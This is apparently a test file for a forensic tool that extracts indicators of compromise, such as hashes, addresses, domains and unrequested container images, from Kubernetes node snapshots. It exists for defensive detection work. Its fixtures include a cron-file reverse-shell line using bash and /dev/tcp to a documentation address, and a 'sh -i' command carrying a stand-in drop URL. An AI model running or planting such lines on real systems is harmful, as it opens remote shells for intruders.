import { expect } from 'chai';
import { indicatorKey } from '../../src/findings/indicator.ts';
import { indicatorsOf, podsOf } from '../../src/findings/indicators-of.ts';
import { judge } from '../../src/findings/judge.ts';
import { rules } from '../../src/findings/rules.ts';
import {
  agent,
  bookOf,
  cleanNode,
  containerMountTable,
  diffOf,
  type Items,
  podList,
  podObject,
  processItems,
  web,
} from './traces-lab.ts';

const hex = 'ab'.repeat(32);
const attacked: Items = {
  ...cleanNode(),
  ...processItems(10, {
    in: web,
    exe: '/tmp/x (deleted)',
    links: 0,
    fd: { 0: 'socket:[77]', 1: 'socket:[77]' },
    mounts: containerMountTable(),
  }),
  '[root]/proc/10/net/tcp': 'head\n0: 0303F40A:A45C 0302F40A:115C 01 0:0 0:0 0 0 0 77 1\n',
  'live_response/process/10/exe': { bytes: 'elf', sha256: 'cd'.repeat(32) },
  'live_response/pod-diff.json': diffOf([
    {
      path: '/tmp/x',
      change: 'added',
      type: 'file',
      content: 'elf',
      size: 5,
      sha256: hex,
      flags: ['setuid'],
    },
    { path: '/var/log/app.log', change: 'added', type: 'file', size: 7, sha256: 'ef'.repeat(32), flags: [] },
  ]),
};

/** The specification of a container of no pod with an image. */
function imageSpec(id: string, image: string): Items {
  return {
    [`[root]/run/containerd/io.containerd.runtime.v2.task/k8s.io/${id}/config.json`]: JSON.stringify({
      ociVersion: '1.0.2',
      process: { args: ['/bin/app'], cwd: '/' },
      annotations: { 'io.kubernetes.cri.image-name': image },
      linux: {},
    }),
  };
}

describe('what can be looked for elsewhere', () => {
  const book = bookOf(attacked);
  const { findings } = judge(rules, [book.docket()], 'c');

  it('is what intruders ran, left and talked to, with the rule that says so', () => {
    const found = indicatorsOf(findings, [book.traces()]);
    expect(found.map(indicatorKey)).to.have.members([
      ...['address 10.244.2.3 4444', `sha256 ${'cd'.repeat(32)}`, `sha256 ${hex}`, 'path /tmp/x'],
    ]);
    expect(found.find(({ value }) => value === hex)).to.include({ size: 5, from: 'planted-in-container' });
    expect([...podsOf(findings)]).to.deep.equal(['prod/web']);
  });
  it('has a program that was only brought along where its pod shows more', () => {
    const changes = [
      { path: '/opt/tool', change: 'added', type: 'file', content: 'elf', sha256: hex, flags: [] },
    ];
    const keys = (items: Items): string[] => {
      const one = bookOf({ ...items, 'live_response/pod-diff.json': diffOf(changes) });
      return indicatorsOf(judge(rules, [one.docket()], 'c').findings, [one.traces()]).map(indicatorKey);
    };
    expect(keys(cleanNode())).to.deep.equal([]);
    expect(keys(attacked)).to.include.members([`sha256 ${hex}`, 'path /opt/tool']);
  });
  it('has the hosts of URLs in the command line of an intruder, and of nobody else', () => {
    const told = (pid: number, args: readonly string[], more: Items = {}): string[] => {
      const fd = { 0: 'socket:[77]', 1: 'socket:[77]' };
      const one = bookOf({ ...cleanNode(), ...more, ...processItems(pid, { in: web, args, fd }) });
      return indicatorsOf(judge(rules, [one.docket()], 'c').findings, [one.traces()]).map(indicatorKey);
    };
    const row = '[root]/proc/10/net/tcp';
    const args = ['sh', '-i', 'http://drop.example:8080/x'];
    expect(told(10, args, { [row]: attacked[row] ?? '' })).to.include('domain drop.example');
    expect(told(12, args)).to.deep.equal([]);
  });
  it('has the image of a container that nobody asked the API server for, and of no other', () => {
    const digests = ['1', '2', '3'].map((digit) => `sha256:${digit.repeat(64)}`);
    const [own = '', ghost = '', pinned = ''] = digests.map((digest) => `registry.example/x@${digest}`);
    const withImage = (which: { id: string; pod: string }, name: string, imageID: string): object => {
      const pod = podObject(which, { name, annotations: { 'kubernetes.io/config.source': 'file' } }) as {
        status: { containerStatuses: object[] };
      };
      const [status] = pod.status.containerStatuses;
      return { ...pod, status: { containerStatuses: [{ ...status, imageID }] } };
    };
    const items: Items = {
      ...attacked,
      'live_response/kubernetes/pods.json': podList(withImage(web, 'web', own)),
      'live_response/kubernetes/kubelet/pods.json': podList(
        withImage(web, 'web', own),
        withImage(agent, 'ghost', ghost),
      ),
      ...imageSpec('f'.repeat(64), pinned),
      ...imageSpec('e'.repeat(64), 'docker.io/library/busybox:1.37'),
    };
    const one = bookOf(items);
    const keys = indicatorsOf(judge(rules, [one.docket()], 'c').findings, [one.traces()]).map(indicatorKey);
    expect(keys.filter((key) => key.startsWith('image'))).to.have.members(
      [digests[1], digests[2]].map((digest) => `image ${digest ?? ''}`),
    );
  });
  it('has no digest of a file of which not all came', () => {
    const bytes = '* * * * * root bash -i >& /dev/tcp/198.51.100.9/443 0>&1\n';
    const keys = (more: { readonly cut?: true }): string[] => {
      const one = bookOf({ ...cleanNode(), '[root]/etc/cron.d/x': { bytes, ...more } });
      return indicatorsOf(judge(rules, [one.docket()], 'c').findings, [one.traces()]).map(indicatorKey);
    };
    expect(keys({}).map((key) => key.split(' ')[0])).to.deep.equal(['sha256', 'cron']);
    expect(keys({ cut: true }).map((key) => key.split(' ')[0])).to.deep.equal(['cron']);
  });
  it('is nothing of a clean node', () => {
    const clean = bookOf(cleanNode());
    const judged = judge(rules, [clean.docket()], 'c').findings;
    expect(indicatorsOf(judged, [clean.traces()])).to.deep.equal([]);
    expect(indicatorsOf(findings, [])).to.deep.equal([]);
  });
});
